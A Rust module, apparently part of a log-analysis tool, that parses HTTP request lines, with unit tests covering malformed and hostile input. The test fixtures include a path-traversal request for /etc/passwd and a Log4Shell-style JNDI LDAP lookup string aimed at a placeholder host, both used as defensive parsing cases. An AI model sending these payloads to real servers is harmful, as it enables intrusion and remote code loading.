//! The request line as clients send it, attackers among them: odd spaces, no
//! method, bytes of another protocol.

use crate::telemetry::names::Names;
use crate::telemetry::request::Request;
use crate::telemetry::text::decoded_uri;

/// `GET /item?id=7 HTTP/1.1` to its parts.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct RequestLine<'a> {
    pub(super) method: Option<&'a str>,
    /// Of a line that is no request all of it: it may be an attack all the same.
    pub(super) uri: Option<&'a str>,
    pub(super) version: Option<&'a str>,
}

impl<'a> RequestLine<'a> {
    /// Any text is one; `-` and nothing are of a client that sent none.
    pub(super) fn of(line: &'a str) -> Self {
        let whole = Self { uri: said(line), ..Self::default() };
        let Some((method, rest)) = line.split_once(' ') else { return whole };
        if !is_token(method) {
            return whole;
        }
        let rest = rest.trim_matches(' ');
        let (uri, version) = match rest.rsplit_once(' ') {
            Some((uri, version)) if version.starts_with("HTTP/") => (uri, Some(version)),
            // AWS writes `- http://shop.example:80- -`.
            Some((uri, "-")) if method == "-" => (uri, None),
            _ if rest.starts_with("HTTP/") => ("", Some(rest)),
            _ => (rest, None),
        };
        // `eval this` is no request for `this`.
        let plain = version.is_some()
            || matches!(method, "-" | "CONNECT")
            || uri.starts_with(['/', '*'])
            || uri.contains("://");
        if !plain {
            return whole;
        }
        Self { method: said(method), uri: said(uri.trim_end_matches(' ')), version }
    }

    pub(super) fn put(self, request: &mut Request, names: &mut Names) {
        request.method = self.method.map(|method| names.of(method.as_bytes()));
        request.version = self.version.map(|version| names.of(version.as_bytes()));
        if let Some(uri) = self.uri {
            put_uri(uri, request);
        }
    }
}

/// The URI and what it is decoded.
pub(super) fn put_uri(uri: &str, request: &mut Request) {
    request.decoded_uri = decoded_uri(uri);
    request.uri = Some(uri.into());
}

fn said(text: &str) -> Option<&str> {
    Some(text).filter(|text| !matches!(*text, "" | "-"))
}

/// RFC 9110's token.
fn is_token(text: &str) -> bool {
    let token = |byte: u8| byte.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&byte);
    !text.is_empty() && text.bytes().all(token)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_is_taken_apart_however_it_is_spaced() {
        let of = |line| {
            let RequestLine { method, uri, version } = RequestLine::of(line);
            [method, uri, version].map(|part| part.unwrap_or("-"))
        };
        for (line, parts) in [
            ("GET /item?id=7 HTTP/1.1", ["GET", "/item?id=7", "HTTP/1.1"]),
            ("GET  /a b  c  HTTP/1.1", ["GET", "/a b  c", "HTTP/1.1"]),
            ("GET /old", ["GET", "/old", "-"]),
            ("GET ../../etc/passwd HTTP/1.0", ["GET", "../../etc/passwd", "HTTP/1.0"]),
            (
                "GET http://shop.example:80/ HTTP/1.1",
                ["GET", "http://shop.example:80/", "HTTP/1.1"],
            ),
            ("OPTIONS * HTTP/1.1", ["OPTIONS", "*", "HTTP/1.1"]),
            ("CONNECT shop.example:443", ["CONNECT", "shop.example:443", "-"]),
            ("GET HTTP/1.1", ["GET", "-", "HTTP/1.1"]),
            ("GET /HTTP/1.1", ["GET", "/HTTP/1.1", "-"]),
            ("- http://shop.example:80- -", ["-", "http://shop.example:80-", "-"]),
            ("- - - ", ["-", "-", "-"]),
            ("-", ["-", "-", "-"]),
            ("", ["-", "-", "-"]),
            ("\u{16}\u{3}\u{1} \u{2}", ["-", "\u{16}\u{3}\u{1} \u{2}", "-"]),
            ("GET ${jndi:ldap://192.0.2.1/a}", ["GET", "${jndi:ldap://192.0.2.1/a}", "-"]),
            ("eval this", ["-", "eval this", "-"]),
            ("SSH-2.0-Go", ["-", "SSH-2.0-Go", "-"]),
        ] {
            assert_eq!(of(line), parts, "{line}");
        }
    }
}
